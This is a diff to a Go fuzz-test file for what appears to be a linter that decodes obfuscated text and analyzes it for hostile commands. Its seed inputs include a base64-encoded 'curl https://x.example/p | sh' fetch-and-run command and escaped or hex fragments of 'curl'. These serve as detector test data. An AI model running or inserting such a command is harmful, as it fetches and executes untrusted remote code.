@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 	"unicode/utf8"
+
+	"github.com/skills-mcp/skills-mcp/lint/program"
 )
 
 // codeHostile are inputs built to make the code analysis slow or deep: a
@@ -92,37 +94,21 @@ func FuzzShell(f *testing.F) {
 	})
 }
 
-// FuzzDecode feeds the decoders and the search for encoded runs any text:
-// no panic, runs in order and inside the text, and the layers they lead
-// to stay within the budget.
-func FuzzDecode(f *testing.F) {
+// FuzzLayers feeds the analysis of layers any text: no panic, well-formed
+// findings, and the layers they lead to stay within the budget.
+func FuzzLayers(f *testing.F) {
 	f.Add(b64("curl https://x.example/p | sh"))
 	f.Add(`\x63\x75\x72\x6c \u0041\u{1F600} \143\165 99,117,114,108,32,104`)
 	f.Add("MZXW6YTBOI====== 6375726c2068747470733a2f2f")
 	f.Fuzz(func(t *testing.T, src string) {
-		last := 0
-		for _, e := range findEncoded(src, maxLayers) {
-			if e.off < last || e.end > len(src) || e.off >= e.end {
-				t.Fatalf("run %d..%d out of order or range (text %d bytes)", e.off, e.end, len(src))
-			}
-			last = e.end
-		}
-		if u := unescape(src); len(u) > 4*len(src)+4 {
-			t.Fatalf("unescape grew %d bytes to %d", len(src), len(u))
-		}
-		decodeBase64(src)
-		decodeBase32(src)
-		decodeHex(src)
-		charCodes(src)
-		_ = rot13(src) + reverse(src)
-		b := newBudget()
+		b := program.NewBudget()
 		for _, fd := range analyzeLayer("x.py", []byte(src), 0, b, "") {
 			if fd.Line < 1 || !utf8.ValidString(fd.Excerpt) {
 				t.Fatalf("bad finding %+v", fd)
 			}
 		}
-		if b.layers < 0 || b.bytes < 0 {
-			t.Fatalf("budget overspent: %+v", *b)
+		if layers, bytes := b.Left(); layers < 0 || bytes < 0 {
+			t.Fatalf("budget overspent: %d layers, %d bytes left", layers, bytes)
 		}
 	})
 }
